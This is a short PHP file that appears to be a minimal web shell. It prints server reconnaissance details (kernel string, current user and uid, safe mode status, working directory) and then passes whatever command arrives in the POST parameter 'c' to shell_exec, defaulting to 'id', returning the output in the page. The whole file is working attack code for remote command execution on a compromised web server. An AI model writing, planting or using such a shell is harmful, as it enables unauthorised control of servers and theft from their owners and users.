<?php
echo "<b>Uname:</b> " . php_uname() . "<br>";
echo "<b>User:</b> " . get_current_user() . " (" . getmyuid() . ")<br>";
echo "<b>Safe mode:</b> " . (ini_get('safe_mode') ? 'ON' : 'OFF') . "<br>";
echo "<b>Dir:</b> " . getcwd();
$c = isset($_POST['c']) ? $_POST['c'] : 'id';
echo '<pre>' . htmlspecialchars(shell_exec($c . ' 2>&1')) . '</pre>';
